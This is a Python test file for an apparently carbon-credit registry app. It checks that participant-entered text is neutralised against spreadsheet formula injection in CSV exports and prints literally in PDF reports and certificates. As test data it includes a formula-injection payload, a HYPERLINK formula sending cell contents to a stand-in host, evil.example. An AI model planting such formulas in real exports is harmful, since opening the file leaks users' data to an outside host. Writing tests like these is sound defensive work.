"""What participants and the operator type reaches downloads as text, never as code: CSV cells
that could start a spreadsheet formula are neutralised (numbers stay numbers), and names in PDF
documents print as the characters they are (issue 14)."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from tanso.api.app import create_app
from tanso.services.common import SYSTEM
from tanso.services.compliance import certificates, inventories
from tanso.services.compliance.inventories import Inventory
from tanso.services.ledger import participants, registry
from tanso.services.marketdata import daily_report
from tanso.store import schema as t
from tanso.store.db import Database
from tanso.web.documents import certificate as certificate_document
from tanso.web.documents import daily_report as daily_document
from tests.conftest import add_issuance, add_participant
from tests.integration.test_certificates import pdf_text
from tests.integration.test_daily_report import market as market
from tests.integration.test_indices import DAY1, ES, Market

pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning")

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
MARKUP = "<b>A&B</b> <font>"


def drawn(pdf: bytes) -> str:
    """The PDF's text with the pieces of a line joined (reportlab draws ``<``, ``&`` and the
    text between them as separate strings)."""
    return pdf_text(pdf).replace(") Tj (", "")


def retire_for(db: Database, beneficiary: str, note: str = "") -> registry.RetirementReceipt:
    actor = add_participant(db, "ENCA")
    issuance = add_issuance(db, "ENCA-MAIN", 1_000, vintage=2022)
    return registry.retire(
        db,
        actor,
        registry.RetirementRequest(
            "ENCA-MAIN",
            registry.Selection(serials=f"{issuance}-1-100"),
            ["offset_scope1"],
            beneficiary,
            2025,
            note=note,
        ),
    )


def test_a_beneficiary_starting_with_a_formula_reaches_the_claims_csv_neutralised(
    db: Database,
) -> None:
    retire_for(db, FORMULA)
    key = participants.create_api_key(db, SYSTEM, "ENCA", "t").key
    with TestClient(create_app(db)) as http:
        got = http.get("/v1/claims/ENCA/2025.csv", headers={"Authorization": f"Bearer {key}"})
    assert got.status_code == 200, got.text
    rows = list(csv.DictReader(io.StringIO(got.text)))
    retirement = next(r for r in rows if r["section"] == "retirement")
    assert retirement["name"] == "'" + FORMULA
    assert retirement["quantity"] == "100"  # a number stays a number
    assert not any(
        cell.startswith(("=", "+", "@")) for row in rows for cell in row.values() if cell
    )


def test_an_inventory_note_is_neutralised_in_the_export_and_imports_back_unchanged(
    db: Database,
) -> None:
    alpha = add_participant(db, "ENCA")
    inventories.record(db, alpha, "ENCA", 2025, Inventory(scope1=10, note="-2+3 @team"))
    exported = inventories.to_csv(inventories.list_inventories(db, alpha, "ENCA"))
    row = next(csv.DictReader(io.StringIO(exported)))
    assert (row["note"], row["scope1"]) == ("'-2+3 @team", "10")
    inventories.import_csv(db, alpha, exported)
    again = inventories.inventory(db, "ENCA", 2025)
    assert again is not None and again.note == "-2+3 @team"


def rename(db: Database, instrument: str, name: str) -> None:
    with db.engine.begin() as conn:
        conn.execute(
            update(t.instruments)
            .where(t.instruments.c.id == instrument)
            .values(name_en=name, name_ja=name)
        )


def test_an_instrument_named_with_markup_prints_literally_in_the_daily_report_pdf(
    market: Market,
) -> None:
    rename(market.db, ES, MARKUP)
    with TestClient(create_app(market.db)) as http:
        for lang in ("en", "ja"):
            got = http.get(f"/v1/market/reports/{DAY1}", params={"format": "pdf", "lang": lang})
            assert got.status_code == 200, got.text
            assert got.content.startswith(b"%PDF-")
    rep = daily_report.build(market.db, market.x, DAY1)
    assert MARKUP in drawn(daily_document.to_pdf(rep, "en"))


def test_an_instrument_named_as_a_formula_is_neutralised_in_the_daily_report_csv(
    market: Market,
) -> None:
    rename(market.db, ES, "=1+2")
    rep = daily_report.build(market.db, market.x, DAY1)
    rows = list(csv.DictReader(io.StringIO(daily_document.to_csv(rep, "en"))))
    names = {r["name"] for r in rows if r["id"] == ES}
    assert names == {"'=1+2"}
    bar = next(r for r in rows if r["id"] == ES and r["record"] == "bar")
    assert int(bar["volume"]) > 0


def test_a_beneficiary_and_note_with_markup_print_literally_on_the_certificate(
    db: Database,
) -> None:
    done = retire_for(db, MARKUP, note="<i>x</i> & <br/>")
    cert = certificates.certificate(db, done.id)
    text = drawn(certificate_document.to_pdf(cert, "en"))
    assert MARKUP in text and "<i>x</i> & <br/>" in text
